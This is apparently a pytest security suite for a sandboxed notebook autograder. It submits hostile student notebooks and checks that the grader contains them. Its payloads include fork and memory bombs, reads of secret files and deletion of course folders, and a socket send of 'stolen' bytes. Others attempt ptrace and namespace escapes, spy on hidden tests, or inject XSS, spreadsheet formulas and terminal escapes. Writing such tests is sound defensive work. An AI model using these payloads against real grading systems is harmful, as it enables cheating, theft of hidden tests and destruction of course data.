"""7. Safety: hostile and broken submissions against the sandboxed grader.

Each attack is a submission with the grade it must get. After the batch, the course's
source/, release/, config, the other submissions and the earlier grades are byte-for-byte
as before, the loopback listener saw no connection, and no cgroup is left behind.
Short limits keep the suite fast.

The suite runs in whichever grading mode the machine gives whoever runs it (llmcourse.grading.cgroups):
root + cgroup v1 or v2, or rootless in a delegated subtree (tests/test_11_cgroups.py runs it
here as a throw-away user; tests/test_vm_cgroup_v2.py in a cgroup v2 virtual machine, as root and as a
user). LLMCOURSE_TEST_MODE=<name> makes a run insist on one mode (e.g. "rootless, cgroup v2"):
a machine that gives another one fails instead of testing the wrong thing.
"""
from __future__ import annotations

import copy
import hashlib
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import harness
import nbformat
import pytest
from conftest import require_sandbox
from nbutil import ROOT, meta

from llmcourse.grading.flags import FlagCode

A = "01_chain_rule"
NB = "chain_rule.ipynb"
CORRECT = 90.0      # all autograded points of 01
LSE_POINTS = 10.0   # test_logsumexp


def _tree_hash(path: Path) -> str:
    """Hash of names and contents; links are hashed as links (never followed)."""
    h = hashlib.sha256()
    if path.is_file() and not path.is_symlink():
        return hashlib.sha256(path.read_bytes()).hexdigest()
    for p in sorted(path.rglob("*"), key=os.fsencode):
        h.update(os.fsencode(p.relative_to(path)) + b"\0")
        if p.is_symlink():
            h.update(b"link:" + os.fsencode(os.readlink(p)))
        elif p.is_file():
            h.update(p.read_bytes())
    return h.hexdigest()


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    require_sandbox()
    c = harness.scratch_course(tmp_path_factory.mktemp("safety"), [A])
    c.correct_nb = harness.filled(c, A, "all")
    return c


def _copy(nb):
    return copy.deepcopy(nb)


def _idx(nb, gid):
    return next(i for i, c in enumerate(nb.cells) if meta(c).get("grade_id") == gid)


def with_cell(base, after_gid: str, code: str):
    nb = _copy(base)
    nb.cells.insert(_idx(nb, after_gid) + 1, nbformat.v4.new_code_cell(code))
    return nb


def with_solution(base, gid: str, code: str):
    nb = _copy(base)
    nb.cells[_idx(nb, gid)].source = code
    return nb


WRONG_LSE = "def logsumexp(x, axis=None):\n    return 0.0\n"


def SILENCE_ERRORS(ok):  # noqa: N802 (an attack, named like the others' constants)
    """A wrong logsumexp, and a kernel that swallows every exception (the cell then "passes")."""
    return with_solution(ok, "logsumexp", WRONG_LSE + "import sys\n"
                         "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n"
                         "sys.excepthook = lambda *a: None\n")


def _attacks(course, port: int) -> dict[str, tuple]:
    """student -> (notebook or raw bytes, filename, expected autograded score, flag substring or None)."""
    ok = course.correct_nb
    root, repo = course.root, ROOT
    secrets = [root / "source" / A / NB, root / "gradebook.db", repo / "source" / A / NB]
    return {
        "loop_forever": (with_cell(ok, "logsumexp", "while True:\n    pass"), NB, CORRECT, None),
        "swallow_interrupt": (with_cell(ok, "logsumexp", "import time\nwhile True:\n    try:\n        time.sleep(0.05)\n"
                                                       "    except KeyboardInterrupt:\n        pass"), NB, CORRECT, None),
        "memory_bomb": (with_cell(ok, "logsumexp", "import numpy as np\nhog = np.ones(2**31)"), NB, CORRECT, None),
        "fork_storm": (with_cell(ok, "logsumexp", "import os, time\nkids = 0\ntry:\n    while True:\n"
                                                "        if os.fork() == 0:\n            time.sleep(20)\n            os._exit(0)\n"
                                                "        kids += 1\nexcept OSError as e:\n    print('fork stopped after', kids)"),
                       NB, CORRECT, None),
        "huge_stdout": (with_cell(ok, "logsumexp", "import sys\nfor _ in range(4000):\n    sys.stdout.write('x' * 5000 + '\\n')"),
                        NB, CORRECT, None),
        "exit_and_die": (with_cell(with_cell(with_cell(ok, "logsumexp", "import sys\nsys.exit(3)"),
                                             "count_bigrams", "import os\nos._exit(1)"),
                                   "add_k_probs", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
                         NB, CORRECT, None),
        "kill_the_runner": (with_cell(ok, "sample_index", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"),
                            NB, CORRECT - 12, None),
        "patch_comparisons": (with_solution(ok, "logsumexp", WRONG_LSE + "import builtins, math, numpy, torch\n"
                                            "numpy.allclose = lambda *a, **k: True\n"
                                            "numpy.testing.assert_allclose = lambda *a, **k: None\n"
                                            "torch.allclose = lambda *a, **k: True\n"
                                            "math.isclose = lambda *a, **k: True\n"
                                            "builtins.abs = lambda x: 0.0\n"), NB, CORRECT - LSE_POINTS,
                              "disagrees with the reference"),
        "silence_errors": (SILENCE_ERRORS(ok), NB, CORRECT - LSE_POINTS, "disagrees with the reference"),
        "equal_to_everything": (with_solution(ok, "logsumexp", "class Anything:\n"
                                              "    def __eq__(self, other): return True\n"
                                              "    def __ne__(self, other): return False\n"
                                              "    def __float__(self): return 0.0\n"
                                              "def logsumexp(x, axis=None):\n    return Anything()\n"),
                                NB, CORRECT - LSE_POINTS, None),
        "tamper_tests": (_tampered_tests(ok), NB, CORRECT - LSE_POINTS, None),
        # if any course file can be read, the attack switches to a correct logsumexp: a leak shows as points
        "read_secrets": (with_solution(ok, "logsumexp", WRONG_LSE + "import numpy as np\n"
                                       f"for path in {[str(p) for p in secrets]!r}:\n"
                                       "    try:\n        open(path, 'rb').read(16)\n"
                                       "    except Exception:\n        continue\n"
                                       "    def logsumexp(x, axis=None):\n"
                                       "        x = np.asarray(x, dtype=np.float64)\n"
                                       "        m = np.max(x, axis=axis, keepdims=True)\n"
                                       "        m = np.where(np.isfinite(m), m, 0.0)\n"
                                       "        with np.errstate(divide='ignore'):\n"
                                       "            s = np.log(np.sum(np.exp(x - m), axis=axis, keepdims=True)) + m\n"
                                       "        return s.reshape(())[()] if axis is None else np.squeeze(s, axis=axis)\n"),
                         NB, CORRECT - LSE_POINTS, None),
        "vandal": (with_cell(ok, "logsumexp", "import os, shutil\n"
                                              f"for p in {[str(root / 'source'), str(root / 'submitted' / 'control'), str(repo / 'source'), str(root / 'release')]!r}:\n"
                                              "    shutil.rmtree(p, ignore_errors=True)\n"
                                              f"for f in {[str(root / 'gradebook.db'), str(root / 'nbgrader_config.py')]!r}:\n"
                                              "    try:\n        os.remove(f)\n    except OSError:\n        pass\n"
                                              "    try:\n        open(f, 'w').write('evil')\n    except OSError:\n        pass\n"
                                              "open('/sandbox/mine.txt', 'w').write('allowed')\n"), NB, CORRECT, None),
        "network": (with_cell(ok, "logsumexp", "import socket\n"
                                               f"s = socket.socket()\ns.settimeout(2)\n"
                                               f"try:\n    s.connect(('127.0.0.1', {port}))\n    s.sendall(b'stolen')\n"
                                               "    print('CONNECTED')\nexcept OSError as e:\n    print('no network:', e)\n"),
                    NB, CORRECT, None),
        # red-team findings, kept as regression tests
        "records_symlink": (with_cell(_blank(ok), "conditionals_from_joint",
                                      "import os\nget_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n"
                                      "for target in ['../../../reference/run-chain_rule/records.jsonl', '/etc/hostname']:\n"
                                      "    try:\n        os.remove('/sandbox/records.jsonl')\n    except OSError:\n        pass\n"
                                      "    os.symlink(target, '/sandbox/records.jsonl')\n"), NB, 0.0, None),
        "forge_runner_pipe": (with_cell(with_solution(ok, "logsumexp", WRONG_LSE), "logsumexp",
                                        "import os, json\nfor fd in ('/proc/%d/fd/1' % os.getppid(), '/proc/1/fd/1'):\n"
                                        "    try:\n        with open(fd, 'w') as f:\n"
                                        "            f.write('0' * 64 + ' ' + json.dumps({'index': 0, 'outputs': [], 'records': ''}) + '\\n')\n"
                                        "    except OSError:\n        pass\n"), NB, CORRECT - LSE_POINTS, None),
        "spy_on_tests": (with_cell(ok, "conditionals_from_joint",
                                   "seen = []\nget_ipython().input_transformers_cleanup.append(lambda lines: (seen.extend(lines), lines)[1])\n"
                                   "import atexit, threading, time\n"
                                   "threading.Thread(target=lambda: [time.sleep(1) or print(''.join(seen)) for _ in range(60)], daemon=True).start()\n"),
                         NB, CORRECT, None),
        "fill_the_disk": (with_cell(ok, "logsumexp", "chunk = b'x' * (1 << 20)\ntry:\n    with open('/sandbox/big.bin', 'wb') as f:\n"
                                                      "        for _ in range(4096):\n            f.write(chunk)\nexcept OSError as e:\n"
                                                      "    print('stopped:', e)\n"), NB, CORRECT, None),
        "deep_json": (b'{"cells": ' + b"[" * 100000 + b"]" * 100000 + b', "nbformat": 4}', NB, 0.0, "rejected"),
        "bad_json": (b"{ this is not json", NB, 0.0, "not valid JSON"),
        "nbformat3": (json.dumps({"nbformat": 3, "nbformat_minor": 0, "worksheets": [], "cells": []}).encode(), NB, 0.0,
                      "nbformat 3"),
        "empty_file": (b"", NB, 0.0, "empty file"),
        "not_utf8": (b"\xff\xfe\x00garbage\x80", NB, 0.0, "not UTF-8"),
        "renamed": (ok, "my_homework.ipynb", CORRECT, "renamed"),
        "reordered": (_reordered(ok), NB, CORRECT, None),
        "huge_outputs": (_with_huge_output(ok), NB, CORRECT, None),
        "grade_id_edited": (_rename_gid(ok, "logsumexp", "my_lse"), NB, CORRECT - LSE_POINTS, "missing"),
        # issue 14: one regression attack per class the second red team got through
        # (4) bounded trusted-side work: 2 MB of trivial code after the last answer
        "trailing_code": (_with_trailing_code(ok), NB, 0.0, "over the limit"),
        # (6) a recorded value the trusted comparison cannot handle: a per-check verdict
        "huge_number": (with_solution(ok, "logsumexp", "def logsumexp(x, axis=None):\n    return 10**400\n"),
                        NB, CORRECT - LSE_POINTS, None),
        # (7) exception text and a notebook name written to attack the reports' readers
        "formula_error": (with_solution(ok, "logsumexp", "from llmcourse.student.checks import CheckFailed\n"
                                        "def logsumexp(x, axis=None):\n"
                                        "    raise CheckFailed('[=HYPERLINK(\"http://evil/\",\"x\")] \\x1b[2J')\n"),
                          NB, CORRECT - LSE_POINTS, None),
        "escape_name": (ok, "\x1b]0;owned\x07\x1b[2Jhomework.ipynb", CORRECT, "renamed"),
        # (1) whatever lies beside the notebook never enters the sandbox
        "solution_beside": (with_solution(ok, "logsumexp", "from helper import logsumexp\n"), NB,
                            CORRECT - LSE_POINTS, None),
        # (5) reach inside the sandbox: any of these working switches to a correct logsumexp
        "reach_out": (with_solution(ok, "logsumexp", WRONG_LSE + REACH_OUT), NB, CORRECT - LSE_POINTS, None),
        # (3) a hook that sees every cell sent to the kernel and prints it, encoded, during locked cells
        "spy_encoded": (with_cell(ok, "conditionals_from_joint", SPY_ENCODED), NB, CORRECT, None),
        # (2) script in a written answer
        "script_answer": (_with_script_answer(ok), NB, CORRECT, None),
    }


REACH_OUT = """
import ctypes, json, os, socket
escaped = []
for fd in os.listdir('/proc/1/fd'):                      # the sandbox's pid 1: no grader pipe or file
    try:
        target = os.readlink('/proc/1/fd/' + fd)
    except OSError:
        continue
    if target != '/dev/null' and not target.startswith('anon_inode:'):
        escaped.append('pid1 holds ' + target)
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x10000000) == 0:                        # a nested user namespace
    escaped.append('unshare')
if libc.ptrace(16, os.getppid(), 0, 0) == 0:             # PTRACE_ATTACH to the runner
    escaped.append('ptrace')
try:
    s = socket.socket(socket.AF_UNIX)
    s.connect(os.environ.get('LLMCOURSE_CHANNEL', '/run/llmcourse/channel'))
    escaped.append('channel')
except OSError:
    pass
caps = [l for l in open('/proc/self/status') if l.startswith('CapEff')][0].split()[1]
if int(caps, 16):
    escaped.append('capabilities')
if open('/proc/self/uid_map').read().split()[:1] != ['65534']:
    escaped.append('uid map')
if escaped:
    def logsumexp(x, axis=None):
        import numpy as np
        x = np.asarray(x, dtype=np.float64)
        m = np.max(x, axis=axis, keepdims=True)
        m = np.where(np.isfinite(m), m, 0.0)
        with np.errstate(divide='ignore'):
            s = np.log(np.sum(np.exp(x - m), axis=axis, keepdims=True)) + m
        return s.reshape(())[()] if axis is None else np.squeeze(s, axis=axis)
"""

SPY_ENCODED = """
import base64, threading, time
seen = []
get_ipython().input_transformers_cleanup.append(lambda lines: (seen.extend(lines), lines)[1])
def leak():
    for _ in range(120):
        time.sleep(0.5)
        print('LEAK:' + base64.b64encode(''.join(seen).encode()).decode()[-2000:])
threading.Thread(target=leak, daemon=True).start()
for name in ['expected', 'ref', 'want', 'reference']:   # names that hidden tests might assign
    globals().get(name)
"""

SCRIPT_ANSWER = ("My answer. <script>window.__pwned = 1</script>"
                 "<img src=x onerror=\"window.__pwned = 2\"> [more](javascript:window.__pwned=3)")


def _with_trailing_code(ok):
    nb = _copy(ok)
    for _ in range(35):   # 35 cells of 60 KB: 2 MB of trivial code after the last answer
        nb.cells.append(nbformat.v4.new_code_cell("a = 1\n" * 10000))
    return nb


def _with_script_answer(ok):
    nb = _copy(ok)
    for c in nb.cells:
        if meta(c).get("solution") and c.cell_type == "markdown":
            c.source = SCRIPT_ANSWER
    return nb


def _blank(ok):
    nb = _copy(ok)
    for c in nb.cells:
        if meta(c).get("solution") and c.cell_type == "code":
            c.source = "raise NotImplementedError()"
    return nb


def _tampered_tests(ok):
    nb = with_solution(ok, "logsumexp", WRONG_LSE)
    del nb.cells[_idx(nb, "test_logsumexp")]                       # delete the failing test
    dup = _copy(nb.cells[_idx(nb, "test_log_prob_of_sequence")])
    nb.cells.insert(3, dup)                                         # duplicate another
    cb = nb.cells[_idx(nb, "test_count_bigrams")]
    cb.metadata["nbgrader"]["points"] = 100                         # inflate points
    cb.source = "pass"                                              # and gut it
    return nb


def _reordered(ok):
    nb = _copy(ok)
    nb.cells = list(reversed(nb.cells))
    return nb


def _with_huge_output(ok):
    nb = _copy(ok)
    cell = nb.cells[_idx(nb, "logsumexp")]
    cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="y" * (20 * 2**20))]
    return nb


def _rename_gid(ok, gid, new):
    nb = _copy(ok)
    nb.cells[_idx(nb, gid)].metadata["nbgrader"]["grade_id"] = new
    return nb


class _Listener:
    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.hits = 0
        self.stop = False
        self.thread = threading.Thread(target=self._loop, daemon=True)
        self.thread.start()

    def _loop(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
                self.hits += 1
                conn.close()
            except OSError:
                pass

    def close(self):
        self.stop = True
        self.thread.join()
        self.sock.close()


def _cgroups() -> set[str]:
    """Every sandbox cgroup now present, in whichever backend this machine uses."""
    from llmcourse.grading import cgroups, sandbox
    return cgroups.ours(sandbox.mode())


def test_runs_in_the_mode_asked_for():
    """The mode this run tests (printed), and the one LLMCOURSE_TEST_MODE insists on."""
    require_sandbox()
    from llmcourse.grading import sandbox
    m = sandbox.check_available()
    print(f"\ngrading mode under test: {m.describe()}")
    from llmcourse.settings import setting
    want = setting("LLMCOURSE_TEST_MODE")
    if want:
        assert m.name == want, f"asked to test {want!r}, this machine gives {m.describe()}"


@pytest.mark.slow
def test_hostile_class_cannot_gain_or_harm(course):
    cgroups_before = _cgroups()
    # a control student graded first: their grade must survive the attacks untouched
    harness.submit(course, "control", course.correct_nb)
    first = harness.grade(course, A, ["control"])
    assert first["control"].score == CORRECT, first["control"].flags
    control_grades = harness.scores(course, A)["control"]

    listener = _Listener()
    attacks = _attacks(course, listener.port)
    for student, (payload, name, _, _) in attacks.items():
        if payload is None:
            continue
        harness.submit(course, student, payload, A, name=name)
    # links in the submission folder: a notebook linked to the source, extra files linked to secrets
    linked = harness.submission_dir(course, A, "symlinked_notebook")
    linked.mkdir(parents=True)
    (linked / NB).symlink_to(course.root / "source" / A / NB)
    extra = harness.submission_dir(course, A, "symlinked_extras")
    extra.mkdir(parents=True)
    nbformat.write(with_solution(course.correct_nb, "logsumexp", WRONG_LSE + "print(open('gb.txt', 'rb').read(15))\n"),
                   str(extra / NB))
    (extra / "gb.txt").symlink_to(course.root / "gradebook.db")
    (extra / "records.jsonl").write_text('{"name": "test_logsumexp/small", "kind": "close", "value": 0.6931471805599453}\n')
    (extra / "notes\udcff.txt").write_bytes(b"a file whose name is not UTF-8")
    (harness.submission_dir(course, A, "solution_beside") / "helper.py").write_text(
        "import numpy as np\n"
        "def logsumexp(x, axis=None):\n"
        "    x = np.asarray(x, dtype=np.float64)\n"
        "    m = np.max(x, axis=axis, keepdims=True)\n"
        "    m = np.where(np.isfinite(m), m, 0.0)\n"
        "    with np.errstate(divide='ignore'):\n"
        "        s = np.log(np.sum(np.exp(x - m), axis=axis, keepdims=True)) + m\n"
        "    return s.reshape(())[()] if axis is None else np.squeeze(s, axis=axis)\n")
    attacks["symlinked_notebook"] = (None, NB, 0.0, "symbolic links")
    attacks["symlinked_extras"] = (None, NB, CORRECT - LSE_POINTS, "symbolic links")
    protected = {p: _tree_hash(p) for p in [course.root / "source", course.root / "release",
                                             course.root / "nbgrader_config.py", ROOT / "source" / A]}
    protected.update({p: _tree_hash(p) for p in (course.root / "submitted").iterdir()})

    t0 = time.perf_counter()
    outcomes = harness.grade(course, A, list(attacks))
    batch_s = time.perf_counter() - t0
    listener.close()

    problems = []
    for student, (_, _, want, flag) in attacks.items():
        o = outcomes[student]
        if o.score != want:
            lost = {g: c["reason"][:120] for g, c in o.cells.items() if not c["passed"]}
            problems.append(f"{student}: scored {o.score}, expected {want} (flags: {o.flags}; "
                            f"failed cells: {dict(list(lost.items())[:3])})")
        if flag and not any(flag in f.message for f in o.flags):
            problems.append(f"{student}: expected a flag containing {flag!r}, got {o.flags}")
        if o.has_flag(FlagCode.GRADER_ERROR):
            problems.append(f"{student}: grader error {o.flags}")
    assert not problems, "\n".join(problems)

    for p, h in protected.items():
        assert p.exists() and _tree_hash(p) == h, f"{p} changed during grading"
    assert harness.scores(course, A)["control"] == control_grades, "an earlier grade changed"
    assert listener.hits == 0, "a submission reached a loopback listener outside its sandbox"
    huge = len(nbformat.writes(harness.graded_notebooks(course, A, "huge_stdout")[0]))
    assert huge < 2 * 2**20, f"the graded notebook kept {huge} bytes of output"
    assert "CONNECTED" not in harness.outputs_text(course, A, "network")
    assert not _cgroups() - cgroups_before, "cgroups were left behind"
    # what a spying submission captured (the hidden tests sent to its kernel) never reaches feedback
    from llmcourse.grading.trusted import hidden_secrets
    page = harness.feedback_html(course, A, "spy_on_tests")
    shown = [sec for sec in hidden_secrets(nbformat.read(str(ROOT / "source" / A / NB), 4)) if sec in page]
    assert not shown, f"hidden test text in feedback: {shown[:3]}"
    # (3) nothing a student's run printed reaches the graded notebook or feedback, encoded or not
    import re
    leaked = re.compile(r"LEAK:[A-Za-z0-9+/=]{16,}")     # the payload, not the attack's own source text
    assert "LEAK:" not in harness.outputs_text(course, A, "spy_encoded")
    page = harness.feedback_html(course, A, "spy_encoded")
    assert not leaked.search(page), "what the spy printed reached the feedback"
    # (2) no live HTML of a written answer in what Formgrader and feedback render
    [recorded] = harness.graded_notebooks(course, A, "script_answer")
    answers = [c.source for c in recorded.cells if c.cell_type == "markdown" and meta(c).get("solution")]
    assert answers and all("<script" not in a and "onerror" not in a and "javascript:" not in a for a in answers)
    page = harness.feedback_html(course, A, "script_answer")
    assert "window.__pwned = 1</script>" not in page and "onerror" not in page and "My answer." in page
    # (7) reports: no formula, no terminal control sequence, whatever the students wrote
    import csv
    for f in (course.root / "reports" / A).glob("*.csv"):
        text = f.read_text()
        assert "\x1b" not in text and "\x07" not in text, f"{f.name} holds control characters"
        for row in csv.reader(text.splitlines()):
            assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), (f.name, row)
    assert set(harness.scores(course, A)) == set(attacks) | {"control"}
    print(f"\n{len(attacks)} hostile submissions graded in {batch_s:.0f} s")


@pytest.mark.slow
def test_feedback_of_flagged_submission_hides_hidden_tests(course):
    """A submission that silences its kernel's errors is flagged, and its feedback still quotes no
    hidden test (this test grades its own submission: it needs no other test to have run)."""
    from llmcourse.grading.trusted import hidden_secrets
    student = "silenced_feedback"
    harness.submit(course, student, SILENCE_ERRORS(course.correct_nb), A)
    outcome = harness.grade(course, A, [student])[student]
    assert outcome.score == CORRECT - LSE_POINTS
    assert any(f.code is FlagCode.TAMPERED and "test_logsumexp" in f.message and "disagrees with the reference" in f.message
               for f in outcome.flags), outcome.flags
    page = harness.feedback_html(course, A, student)
    assert "HIDDEN TESTS" not in page and "RECORD_ONLY" not in page
    shown = [sec for sec in hidden_secrets(nbformat.read(str(ROOT / "source" / A / NB), 4)) if sec in page]
    assert not shown, f"hidden test text in feedback: {shown[:3]}"
    assert "test_logsumexp" in harness.visible_text(page), "the failed cell is named in the feedback"


@pytest.mark.slow
def test_resume_after_kill_gives_the_same_grades(course, tmp_path):
    """Kill the grader half-way (SIGKILL), run it again: same grades, nothing duplicated or lost."""
    students = ["r_correct", "r_partial", "r_blank"]
    partial = with_solution(course.correct_nb, "logsumexp", WRONG_LSE)
    harness.submit(course, "r_correct", course.correct_nb)
    harness.submit(course, "r_partial", partial)
    blank = _copy(course.correct_nb)
    for c in blank.cells:
        if meta(c).get("solution") and c.cell_type == "code":
            c.source = "raise NotImplementedError()"
    harness.submit(course, "r_blank", blank)

    env = dict(course.env, LLMCOURSE_LIMIT_CELL_TIMEOUT_S="10", PYTHONPATH=str(ROOT))
    # (issue 14) the grader is started through a virtual environment reached by a symbolic link
    # (a course whose .venv is a link): the sandbox must start and bind the resolved interpreter
    venv_link = tmp_path / "linked-venv"
    venv_link.symlink_to(Path(sys.prefix).resolve(), target_is_directory=True)
    cmd = [str(venv_link / "bin" / "python"), "-m", "llmcourse.cli", "grade", "--assignment", A, "--workers", "1",
           "--students", ",".join(students)]
    proc = subprocess.Popen(cmd, cwd=course.root, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                            start_new_session=True)
    deadline = time.time() + 300
    while time.time() < deadline and proc.poll() is None:
        if harness.finished(course, A, students):
            break
        time.sleep(0.2)
    try:
        os.killpg(proc.pid, signal.SIGKILL)
    except ProcessLookupError:
        pass
    proc.wait()
    assert proc.returncode in (-signal.SIGKILL, None) or proc.returncode == 0, f"the grader failed ({proc.returncode})"
    finished = harness.finished(course, A, students)
    assert finished, "the grader started through a linked .venv graded nothing before the deadline"
    assert len(finished) < len(students), "the grader finished before it could be killed"

    out1 = harness.grade(course, A, students)
    assert {s for s, o in out1.items() if o.resumed} == set(finished)
    assert (out1["r_correct"].score, out1["r_partial"].score, out1["r_blank"].score) == (CORRECT, CORRECT - LSE_POINTS, 0.0)
    grades1 = {s: v for s, v in harness.scores(course, A).items() if s in students}
    # grading the same submissions again changes nothing
    out2 = harness.grade(course, A, students)
    assert all(o.resumed for o in out2.values())
    harness.forget(course, A, students)   # forced re-grade of a submission gives the same grade
    out3 = harness.grade(course, A, students)
    assert {s: o.score for s, o in out3.items()} == {s: o.score for s, o in out1.items()}
    grades3 = {s: v for s, v in harness.scores(course, A).items() if s in students}
    assert grades1 == grades3
    from nbgrader.api import Gradebook
    with Gradebook(harness.db_url(course)) as gb:
        subs = [s.student_id for s in gb.assignment_submissions(A) if s.student_id in students]
    assert sorted(subs) == sorted(students), "one submission row per student"
    # cgroups of a grader that is gone (another course's graders on a shared machine may be running)
    orphans = {c for c in _cgroups() if not os.path.exists(f"/proc/{Path(c).name.split('-')[1]}")}
    assert not orphans, "cgroups left by the killed grader were not cleaned up"



def test_class_fixture_used_the_sandboxed_grader(graded_course):
    """Under CI the whole-class grading tests (correct / blank / partial of every assignment,
    tests 4 and 6) run through the sandboxed grader, which also proves that every reference
    solution passes with its expected values stripped."""
    if not graded_course.sandboxed:
        require_sandbox()
    assert graded_course.sandboxed


# ---------------------------------------------------------------------------------- issue 14
PROBE = r"""
import ctypes, json, os, socket, time
s = socket.socket(socket.AF_UNIX)
s.connect(os.environ["LLMCOURSE_CHANNEL"])
got = b""
while True:
    piece = s.recv(65536)
    if not piece:
        break
    got += piece
info = {"got": got.decode()}
info["pid1_fds"] = {fd: os.readlink(f"/proc/1/fd/{fd}") for fd in os.listdir("/proc/1/fd")}
libc = ctypes.CDLL(None, use_errno=True)
info["unshare"] = libc.unshare(0x10000000)
info["ptrace"] = libc.ptrace(16, 1, 0, 0)
info["status"] = {k: v.strip() for k, _, v in (l.partition(":") for l in open("/proc/self/status"))
                  if k in ("CapEff", "CapPrm", "CapBnd", "NoNewPrivs", "Seccomp")}
try:
    socket.socket(socket.AF_UNIX).connect(os.environ["LLMCOURSE_CHANNEL"])
    info["second_connection"] = True
except OSError:
    info["second_connection"] = False
info["shm"] = os.path.exists("/dev/shm") and bool(os.listdir("/dev/shm"))
info["sys"] = os.path.exists("/sys/fs")
time.sleep(1.5)          # the host looks at this process's uid meanwhile
s.sendall((json.dumps(info) + "\n").encode())
"""


@pytest.mark.slow
def test_sandbox_holds_no_grader_fd_and_runs_as_an_unprivileged_uid():
    """(5) pid 1 holds /dev/null only, one connection to the grader, no nested user namespace,
    no ptrace, no capabilities, seccomp on, and every process of the sandbox is the host uid
    SANDBOX_HOST_UID, never root (rootless mode: the grading user's own uid, the only one it has)."""
    require_sandbox()
    from llmcourse.grading import sandbox
    mode = sandbox.check_available()
    expected_uid = sandbox.SANDBOX_HOST_UID if mode.privileged else os.getuid()
    seen_uids: set[int] = set()
    result = {}

    def run():
        result["r"] = sandbox.run(None, [sandbox.python_executable(), "-c", PROBE],
                                  sandbox.Limits(wall_s=60), stdin_bytes=b"input-bytes")

    before = _cgroups()
    t = threading.Thread(target=run)
    t.start()
    deadline = time.time() + 30
    while t.is_alive() and time.time() < deadline:
        for cg in map(Path, _cgroups()):
            if str(cg) in before:
                continue
            try:
                pids = (cg / "cgroup.procs").read_text().split()
            except OSError:
                continue
            for pid in pids:
                try:
                    uid_line = next(line for line in Path(f"/proc/{pid}/status").read_text().splitlines()
                                    if line.startswith("Uid:"))
                    seen_uids |= {int(u) for u in uid_line.split()[1:]}
                except (OSError, StopIteration):
                    pass
        time.sleep(0.05)
    t.join()
    r = result["r"]
    assert r.lines, f"no result from the probe: {r.stderr_tail}"
    info = json.loads(r.lines[0])
    assert info["got"] == "input-bytes"
    assert set(info["pid1_fds"].values()) <= {"/dev/null"} | {v for v in info["pid1_fds"].values()
                                                           if v.startswith("anon_inode:")}, info["pid1_fds"]
    assert info["unshare"] == -1 and info["ptrace"] == -1
    assert int(info["status"]["CapEff"], 16) == 0 and int(info["status"]["CapBnd"], 16) == 0
    assert info["status"]["NoNewPrivs"] == "1" and info["status"]["Seccomp"] == "2"
    assert info["second_connection"] is False
    assert not info["shm"] and not info["sys"]
    if mode.backend != "none":     # rlimits only: no cgroup lists the sandbox's processes
        assert seen_uids == {expected_uid}, f"sandbox processes ran as {seen_uids}"


def _entry(inbound: Path, name: str, uid: int, files: dict, links: dict | None = None,
           hardlinks: dict | None = None, fifo: bool = False) -> Path:
    d = inbound / name
    d.mkdir()
    for f, data in files.items():
        (d / f).write_bytes(data)
    for f, target in (links or {}).items():
        (d / f).symlink_to(target)
    if fifo:
        os.mkfifo(d / "pipe")
    for p in [d, *d.iterdir()]:
        os.lchown(p, uid, uid)
    for f, target in (hardlinks or {}).items():   # keeps the target's owner
        os.link(target, d / f)
    return d


@pytest.mark.slow
def test_collect_trusts_nothing_in_the_exchange(tmp_path):
    """(1) links and special files refused, the owner decides the student id, a forged later entry
    in a victim's name is refused, reads happen as the entry's owner (here: accounts nobody and daemon)."""
    import pwd
    if os.geteuid() != 0:
        pytest.skip("needs root to give the entries owners")
    from llmcourse.authoring.sampleclass import make_scratch_course
    nobody, daemon = pwd.getpwnam("nobody").pw_uid, pwd.getpwnam("daemon").pw_uid
    c = make_scratch_course(tmp_path / "course", ROOT, [A])
    inbound = c.root / "exchange" / "llm-course" / "inbound"
    inbound.mkdir(parents=True)
    os.chmod(c.root / "exchange", 0o755)
    honest = (ROOT / "release" / A / NB).read_bytes()
    src = c.root / "source" / A / NB
    # the victim (daemon) submits honestly; the attacker (nobody) forges a later entry in daemon's name
    _entry(inbound, f"daemon+{A}+2030-01-01 10:00:00.000000 UTC+v1", daemon, {NB: honest})
    _entry(inbound, f"daemon+{A}+2030-01-02 10:00:00.000000 UTC+f1", nobody, {NB: b"forged"})
    # the attacker's own entry: the notebook is a link to the instructor's source, plus a hard link,
    # a FIFO (a reader that blocked on it would hang collect) and a sub-folder
    _entry(inbound, f"nobody+{A}+2001-01-01 11:00:00.000000 UTC+a1", nobody, {"notes.txt": b"mine"},
           links={NB: src, "extra.py": "/etc/shadow"}, hardlinks={"copy.ipynb": src}, fifo=True)
    (inbound / f"nobody+{A}+2001-01-01 11:00:00.000000 UTC+a1" / "sub").mkdir()
    # an entry that is itself a link to a folder, and one owned by an id with no account
    (inbound / f"nobody+{A}+2030-01-03 10:00:00.000000 UTC+l1").symlink_to(c.root / "source" / A)
    _entry(inbound, f"ghost+{A}+2030-01-01 10:00:00.000000 UTC+g1", 54321, {NB: honest})
    env = dict(c.env, PYTHONPATH=str(ROOT))
    proc = subprocess.run([sys.executable, "-m", "llmcourse.cli", "collect", "--assignment", A], cwd=c.root,
                          env=env, capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    out = proc.stdout
    sub = c.root / "submitted"
    assert sorted(p.name for p in sub.iterdir()) == ["daemon", "nobody"]
    assert (sub / "daemon" / A / NB).read_bytes() == honest, "the victim keeps their own submission"
    got = sorted(p.name for p in (sub / "nobody" / A).iterdir())
    assert got == ["notes.txt", "timestamp.txt"], got
    assert not any(p.is_symlink() for p in sub.rglob("*"))
    for what in ("claims to be daemon's but is owned by nobody", "symbolic link", "special file", "hard link",
                 "a folder", "not a folder", "no account"):
        assert what in out, f"collect did not report {what!r}:\n{out}"
    assert (c.root / "reports" / A / "collect_refused.csv").is_file()
    # stamps: the later of the entry's claim and its last status change (which its owner cannot set back)
    assert (sub / "daemon" / A / "timestamp.txt").read_text().startswith("2030-01-01 10:00:00")
